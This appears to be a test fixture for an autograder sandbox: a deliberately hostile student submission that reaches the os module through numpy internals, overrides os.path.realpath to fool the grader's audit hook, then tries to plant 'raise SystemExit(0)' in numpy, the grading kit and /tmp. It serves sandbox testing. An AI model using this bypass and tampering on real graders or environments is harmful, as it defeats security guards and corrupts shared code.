# A hostile ch06 submission that first disarms the worker's Python guards the way a security
# review did (the audit hook trusts os.path.realpath, which a submission can replace through
# numpy's own modules without importing anything), then plants a payload in numpy and the kit.
# With the guards gone, only the kernel stands in the way: tests/test_sandbox_kernel.py checks
# that it refused each write, and that the next student graded is unaffected.
import numpy as np

os_ = getattr(getattr(getattr(np, "_core"), "records"), "os")
here = os_.getcwd()
os_.path.realpath = lambda path, *args, **kwargs: os_.path.join(here, "harmless")
os_.path.isdir = lambda path: False

TARGETS = {
    "numpy": "/labkit/site/numpy/__init__.py",
    "numpy core": "/labkit/site/numpy/_core/__init__.py",
    "kit": "@KIT@/grader/__init__.py",
    "host /tmp": "/tmp/@MARKER@",
}
RESULTS = {}
for name, path in TARGETS.items():
    try:
        with open(path, "a") as f:
            f.write("\nraise SystemExit(0)  # planted\n")
        RESULTS[name] = "succeeded"
    except OSError as exc:
        RESULTS[name] = exc.errno


def Value(*args):
    return repr(RESULTS)
